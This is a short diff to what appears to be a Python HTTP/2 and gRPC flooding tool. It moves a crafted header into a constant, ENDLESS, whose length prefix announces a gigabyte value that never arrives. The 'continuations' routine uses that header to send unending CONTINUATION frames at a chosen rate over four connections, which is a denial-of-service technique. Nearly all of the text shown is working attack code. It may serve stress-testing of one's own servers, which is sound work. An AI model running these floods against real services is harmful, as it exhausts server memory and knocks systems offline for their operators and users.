@@ -64,6 +64,10 @@ def headers(method: str, token: str | None = None) -> bytes:
     return b"".join(b"\0" + _text(name) + _text(value) for name, value in fields)
 
 
+ENDLESS = b"\0" + _text("x-long") + b"\x7f\x80\x80\x80\x80\x04"
+"""A header whose value of a gigabyte begins."""
+
+
 def message(data: bytes) -> bytes:
     """A gRPC message in DATA frames' payload."""
     return b"\0" + len(data).to_bytes(4, "big") + data
@@ -337,12 +341,11 @@ def idle_streams(target: Target, size: int, method: str = "Push") -> Flood:
 def continuations(target: Target, size: int) -> Flood:
     """`size` megabytes a second of headers that do not end, over four connections."""
     block = headers("Push", target.token)
-    value = b"\0" + _text("x-long") + b"\x7f\x80\x80\x80\x80\x04"  # a value of a gigabyte begins
     piece = b"".join(frame(CONTINUATION, 0, 1, b"a" * 16384) for _ in range(16))
     sent = {"bytes": 0, "from": time.monotonic()}
 
     def opened(connection: Http2) -> int:
-        connection.begin_headers(block + value)
+        connection.begin_headers(block + ENDLESS)
         return len(block)
 
     def pressed(connection: Http2) -> int:
